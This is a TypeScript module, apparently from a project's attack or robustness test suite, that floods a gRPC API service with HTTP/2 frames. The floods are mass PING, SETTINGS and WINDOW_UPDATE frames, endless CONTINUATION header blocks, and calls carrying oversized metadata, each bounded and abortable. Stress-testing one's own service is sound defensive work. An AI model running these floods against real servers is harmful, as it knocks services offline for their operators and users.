import { setTimeout as sleep } from 'node:timers/promises';
import { ports } from '@nodewright/contract';
import type { AttackTarget } from '../target/attack-target.ts';
import { headersOf } from '../wire/call-frames.ts';
import { frame, frameTypes, settingFrame } from '../wire/frame.ts';
import { headerBlock } from '../wire/header-block.ts';
import { RawConnection } from '../wire/raw-connection.ts';
import type { Flood } from './flood.ts';

const framesPerRun = 200_000;
const batch = 1_000;
const headerTableSetting = 0x1;
const version = '/machine.MachineService/Version';
/** Size of one metadata field. */
const bigFieldBytes = 15_000;

const ping = frame(frameTypes.ping, 0, 0, new Uint8Array(8));
const settings = settingFrame(headerTableSetting, 4096);
const windowUpdate = frame(frameTypes.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]));
const emptyContinuation = (stream: number) => frame(frameTypes.continuation, 0, stream, new Uint8Array());

export const frameFloods: readonly Flood[] = [
  repeated('pings', '200,000 PING frames on one connection', () => ping),
  repeated('settings', '200,000 SETTINGS frames on one connection', () => settings),
  repeated('window-updates', '200,000 WINDOW_UPDATE frames on one connection', () => windowUpdate),
  {
    name: 'continuations',
    what: 'header blocks that never end: 200,000 empty CONTINUATION frames',
    run: (target, signal) =>
      flood(target, signal, (open) => {
        const stream = open.stream();
        const block = headerBlock([[':method', 'POST']]);
        return {
          first: frame(frameTypes.headers, 0, stream, block),
          each: emptyContinuation(stream),
        };
      }),
  },
  {
    name: 'big-headers',
    what: 'a reader makes 2,000 calls with 60 kB of metadata each',
    run: async (target, signal) => {
      const value = 'x'.repeat(bigFieldBytes);
      const metadata = ['a', 'b', 'c', 'd'].map((name) => [name, value] as const);
      // One frame holds 16 kB and more would need CONTINUATION frames, so each field is sent in a call of its
      // own.
      const frames = metadata.map((field) => headersOf({ path: version, metadata: [field] }, true));
      const counts = { frames: 0, connections: 0, refusedConnections: 0 };
      while (counts.frames < 8_000 && !signal.aborted) {
        using open = await openReader(target, signal, counts);
        if (open === undefined) continue;
        for (let calls = 0; calls < batch && open.isOpen && !signal.aborted; calls += frames.length) {
          await open.send(...frames.map((of) => of(open.stream())));
          counts.frames += frames.length;
          await sleep(1);
        }
      }
      return counts;
    },
  },
];

function repeated(name: string, what: string, each: () => Buffer): Flood {
  return {
    name,
    what,
    run: (target, signal) => flood(target, signal, () => ({ first: Buffer.alloc(0), each: each() })),
  };
}

/**
 * Sends the same frame until the bounded number is reached. Opens a new connection whenever the server closes
 * one.
 */
async function flood(
  target: AttackTarget,
  signal: AbortSignal,
  framesOf: (open: RawConnection) => { readonly first: Buffer; readonly each: Buffer },
) {
  const counts = { frames: 0, connections: 0, refusedConnections: 0 };
  while (counts.frames < framesPerRun && !signal.aborted) {
    using open = await openReader(target, signal, counts);
    if (open === undefined) continue;
    const { first, each } = framesOf(open);
    const many = Buffer.concat(Array.from({ length: batch }, () => each));
    await open.send(first);
    while (open.isOpen && counts.frames < framesPerRun && !signal.aborted) {
      await open.send(many);
      counts.frames += batch;
      await sleep(1);
    }
  }
  return counts;
}

async function openReader(
  { entry, certificates }: AttackTarget,
  signal: AbortSignal,
  counts: { connections: number; refusedConnections: number },
): Promise<RawConnection | undefined> {
  try {
    const open = await RawConnection.open(
      { host: entry.address, port: ports.apid },
      { credentials: certificates.reader, signal },
    );
    counts.connections += 1;
    return open;
  } catch {
    counts.refusedConnections += 1;
    await sleep(50);
    return undefined;
  }
}
